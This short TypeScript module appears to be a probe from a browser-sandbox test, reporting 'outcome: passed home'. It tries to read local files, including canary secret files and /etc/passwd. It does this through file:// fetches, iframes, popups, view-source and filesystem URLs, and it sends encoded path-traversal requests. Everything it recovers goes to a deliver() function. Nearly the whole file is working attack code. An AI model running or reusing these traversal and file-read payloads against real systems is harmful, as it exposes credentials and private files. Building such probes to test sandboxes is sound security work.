// Reads files of the machine, by every means that a page has.
// outcome: passed home
import { attempt, canary, deliver } from "./caught";

export function begin(): void {
  for (const file of [...canary.secretFiles, "/etc/passwd"]) {
    void attempt(file, async () => (await fetch(`file://${file}`)).text());
    for (const address of [`file://${file}`, `view-source:file://${file}`, `filesystem:file://${file}`]) {
      const frame = document.createElement("iframe");
      frame.src = address;
      frame.onload = () => {
        try {
          deliver(frame.contentDocument?.body.innerText ?? "");
        } catch (error) {
          console.log(error);
        }
      };
      document.body.append(frame);
      window.open(address);
    }
    for (const path of [`/..${file}`, `/%2e%2e/%2e%2e/%2e%2e${file}`, `//${file}`, `/assets/..%2f..%2f..%2f..%2f..${file}`,
      `/assets/%2e%2e%5c%2e%2e${file}`]) {
      void fetch(path).then(async (answer) => deliver(`${answer.status} ${(await answer.text()).slice(0, 2000)}`));
    }
  }
}
